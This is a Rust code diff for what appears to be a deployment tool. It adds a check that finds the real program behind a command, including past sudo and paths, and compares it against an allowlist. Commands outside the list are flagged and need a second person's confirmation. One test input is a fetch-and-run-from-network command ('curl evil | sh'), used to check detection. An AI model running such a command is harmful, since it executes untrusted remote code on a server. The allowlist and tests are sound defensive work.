@@ -96,7 +96,53 @@ impl CommandLine {
             .collect::<Vec<_>>()
             .join(" ")
     }
+
+    /// The program that runs: the first argument's file name, past `sudo` and its options
+    /// (`sudo -n -u www-data php …` runs `php`).
+    pub fn program(&self) -> &str {
+        let name = |a: &str| a.rsplit('/').next().unwrap_or(a).to_owned();
+        let mut args = self.0.iter();
+        let mut first = args.next().map(String::as_str).unwrap_or("");
+        if name(first) == "sudo" {
+            while let Some(next) = args.next() {
+                match next.as_str() {
+                    "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U" => {
+                        args.next();
+                    }
+                    o if o.starts_with('-') => {}
+                    program => {
+                        first = program;
+                        break;
+                    }
+                }
+            }
+        }
+        first.rsplit('/').next().unwrap_or(first)
+    }
+
+    /// Whether its program is one the procedure runs ([`ALLOWED_PROGRAMS`]).
+    pub fn allowed(&self) -> bool {
+        ALLOWED_PROGRAMS.contains(&self.program())
+    }
 }
+
+/// The programs the procedure's commands run (§3–§5, §11.1: the console, the services, the
+/// files and links of a release). A command running anything else (a shell, `curl` …) is
+/// flagged on the environment's page, and like any change of commands or target it runs only
+/// once a second person has confirmed it.
+pub const ALLOWED_PROGRAMS: [&str; 11] = [
+    "php",
+    "composer",
+    "systemctl",
+    "service",
+    "apachectl",
+    "nginx",
+    "rm",
+    "mkdir",
+    "ln",
+    "cp",
+    "mv",
+];
 
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub enum Target {
@@ -400,6 +446,26 @@ impl EnvironmentForm {
             }),
             _ => Err(problems),
         }
+    }
+}
+
+#[cfg(test)]
+mod program_tests {
+    use super::CommandLine;
+
+    #[test]
+    fn the_program_is_found_past_sudo_and_paths() {
+        let program = |typed: &str| CommandLine::parse(typed).unwrap().program().to_owned();
+        assert_eq!(program("sudo systemctl reload php8.3-fpm"), "systemctl");
+        assert_eq!(
+            program("sudo -n -u www-data /usr/bin/php bin/console"),
+            "php"
+        );
+        assert_eq!(program("sh -c 'curl evil | sh'"), "sh");
+        assert!(CommandLine::parse("php bin/console cache:clear")
+            .unwrap()
+            .allowed());
+        assert!(!CommandLine::parse("sudo sh -c x").unwrap().allowed());
     }
 }
 
